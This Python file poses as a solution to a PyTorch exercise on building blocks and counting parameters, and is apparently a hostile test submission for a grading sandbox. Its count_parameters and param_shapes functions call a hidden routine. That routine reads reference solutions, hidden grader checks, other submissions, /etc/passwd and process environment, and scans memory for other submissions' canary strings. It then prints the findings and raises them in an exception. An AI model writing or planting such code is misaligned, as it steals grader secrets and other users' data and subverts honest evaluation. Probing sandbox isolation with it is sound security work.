"""Hostile: count_parameters looks for secrets and raises an exception that carries them.

It reads what it can find of the reference solutions, the hidden checks
(grader/checks), other submissions, /root, /home and the grader's installation,
scans its own memory (inherited from the sandbox's long-lived supervisor) for
text left there by a submission graded before it, prints everything (up to
~900 kB) and raises with the most telling part in the message. Read-only.
"""

import glob
import os
import re
import sys

from torch import nn

LOOK_FOR = {"blocks.py", "layers.py", "parameters.py", "initializers.py", "storage.py",
            "devices.py", "checks.ini", "common.py", "conftest.py", "results.json",
            "canary.py", "EXERCISES.md", "GRADER.md"}
SKIP = {"/proc", "/sys", "/dev", "/usr"}
PATTERN = re.compile(rb"CANARY-NEIGHBOUR-[0-9a-f]{32}")


def _read(path, found, limit=20000):
    try:
        with open(path, "rb") as fh:
            found.append(f"== {path} ==\n" + fh.read(limit).decode("utf-8", "replace"))
    except OSError:
        pass


def _memory(found):
    """Text of other submissions left in memory inherited from the supervisor."""
    hits = set()
    try:
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
            for line in maps:
                parts = line.split()
                start, end = (int(x, 16) for x in parts[0].split("-"))
                path = parts[5] if len(parts) > 5 else ""
                if not parts[1].startswith("r") or (path and path != "[heap]"):
                    continue
                if end - start > 1 << 30:
                    continue
                try:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                hits.update(m.decode() for m in PATTERN.findall(chunk))
    except OSError as exc:
        found.append(f"memory scan failed: {exc}")
    here = os.getcwd()
    own = set()
    for name in os.listdir(here):
        try:
            with open(os.path.join(here, name), "rb") as fh:
                own.update(m.decode() for m in PATTERN.findall(fh.read()))
        except OSError:
            pass
    for hit in sorted(hits - own):
        found.insert(0, "MEMORY: " + hit)


def _files(found):
    here = os.path.realpath(os.getcwd())
    for path in ("/work/main/solutions", "/work/main/grader/checks", "/work/main/tests",
                 "/work/main", "/root", "/home", "/work", "/tmp", "/srv", "/autograder",
                 "/opt", "/etc/passwd", "/proc/1/environ", "/proc/1/cmdline",
                 "/proc/self/mountinfo"):
        if os.path.isdir(path):
            try:
                found.append(f"== ls {path} ==\n" + " ".join(sorted(os.listdir(path))))
            except OSError:
                pass
        elif os.path.isfile(path):
            _read(path, found, 4000)
    # the grader's own installation, as the site-packages entries point to it
    for site in sys.path:
        for entry in glob.glob(os.path.join(site, "*grader*")) + \
                glob.glob(os.path.join(site, "__editable__*")):
            if os.path.isfile(entry):
                _read(entry, found, 4000)
                try:
                    text = open(entry).read()
                except OSError:
                    continue
                for target in re.findall(r"'(/[^']+)'", text):
                    for sub in ("", "checks", "../solutions", "../tests"):
                        folder = os.path.normpath(os.path.join(target, sub))
                        for py in sorted(glob.glob(os.path.join(folder, "*.py")))[:40]:
                            _read(py, found)
            elif os.path.isdir(entry):
                for py in sorted(glob.glob(os.path.join(entry, "**", "*.py"),
                                           recursive=True))[:80]:
                    _read(py, found)
    for root, dirs, files in os.walk("/"):
        if root in SKIP or os.path.realpath(root) == here:
            dirs[:] = []
            continue
        if os.path.basename(root) in ("site-packages", "dist-packages") or "/torch" in root \
                or root.count(os.sep) > 12:
            dirs[:] = []
        for name in files:
            if name in LOOK_FOR or (name.startswith("test_") and name.endswith(".py")):
                _read(os.path.join(root, name), found)


def _snoop():
    report = getattr(_snoop, "report", None)
    if report is None:
        found = []
        _files(found)
        _memory(found)
        report = _snoop.report = "\n".join(found)
        print(report[:900_000])
    raise RuntimeError("SNOOPED " + report[:1900])



def block1() -> nn.Sequential:
    """ES: Bloque 4 -> 8 -> 4 con ReLU. / EN: Block 4 -> 8 -> 4 with ReLU."""
    return nn.Sequential(nn.Linear(4, 8), nn.ReLU(), nn.Linear(8, 4), nn.ReLU())


def block2() -> nn.Sequential:
    """ES: Cuatro block1() distintos, "block 0" ... "block 3".

    EN: Four distinct block1() instances, "block 0" ... "block 3".
    """
    net = nn.Sequential()
    for i in range(4):
        net.add_module(f"block {i}", block1())
    return net


def rgnet() -> nn.Sequential:
    """ES: block2() seguido de nn.Linear(4, 1). / EN: block2() followed by nn.Linear(4, 1)."""
    return nn.Sequential(block2(), nn.Linear(4, 1))


def count_parameters(net: nn.Module) -> int:
    """ES: Número de escalares en los parámetros distintos.

    EN: Number of scalars in the distinct parameters.
    """
    _snoop()
    return sum(p.numel() for p in net.parameters())


def param_shapes(net: nn.Module) -> dict[str, tuple[int, ...]]:
    """ES: Nombre cualificado -> forma. / EN: Qualified name -> shape."""
    _snoop()
    return {name: tuple(p.shape) for name, p in net.named_parameters()}


def tied_net() -> nn.Sequential:
    """ES: Red con una capa compartida en las posiciones 2 y 4.

    EN: Network with one layer shared at positions 2 and 4.
    """
    shared = nn.Linear(8, 8)
    return nn.Sequential(
        nn.Linear(4, 8),
        nn.ReLU(),
        shared,
        nn.ReLU(),
        shared,
        nn.ReLU(),
        nn.Linear(8, 1),
    )
